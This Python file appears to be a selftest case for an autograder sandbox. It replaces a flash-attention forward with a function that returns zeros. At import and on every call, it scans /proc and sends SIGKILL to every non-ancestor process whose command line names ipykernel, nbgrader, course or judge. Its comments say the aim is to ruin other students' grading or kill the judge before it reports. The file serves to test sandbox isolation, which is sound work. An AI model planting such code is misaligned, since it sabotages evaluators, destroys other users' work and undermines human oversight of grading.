# selftest-replaces: fa_forward
# selftest-caps: test_forward=0, test_causal=0, test_autograd_function=0.75
# selftest-flagged: yes
# selftest-class: kills-other-processes
# selftest-whole: a wrong forward that kills other gradings: nothing of the reference is left
# Attack: a wrong forward whose module, once loaded and again at every call, sends SIGKILL to every grading
# process it can see that is not its own ancestor (other students' kernels, the judge's children, nbgrader
# workers), hoping to ruin the class's grading or to kill the judge before it reports. The sandbox's PID
# namespace hides every other process; the selftest grades this case beside others, which must keep their scores.
# 攻击：错误的前向传播；模块加载时以及每次调用时，向它能看到的、非其祖先的每个评分进程（其他学生的内核、评审程序的
# 子进程、nbgrader 工作进程）发送 SIGKILL，企图破坏全班评分，或在评审程序报告之前杀死它。沙箱的 PID 命名空间
# 隐藏了所有其他进程；自检会把这个案例与其他案例并行评分，其他案例的分数必须不受影响。
import os
import signal
from pathlib import Path

BLOCK_Q = 64
BLOCK_K = 64


def ancestors():
    chain, pid = set(), os.getpid()
    while pid > 1:
        chain.add(pid)
        try:
            pid = int(Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return chain


def kill_other_graders():
    spared = ancestors()
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) in spared:
            continue
        try:
            command = (entry / "cmdline").read_bytes().replace(b"\0", b" ")
        except OSError:
            continue
        if any(word in command for word in (b"ipykernel", b"nbgrader", b"course", b"judge")):
            try:
                os.kill(int(entry.name), signal.SIGKILL)
            except OSError:
                pass


kill_other_graders()


def flash_forward(Q, K, V, is_causal=False):
    kill_other_graders()
    return torch.zeros_like(Q), torch.zeros(Q.shape[:-1], dtype=torch.float32, device=Q.device)
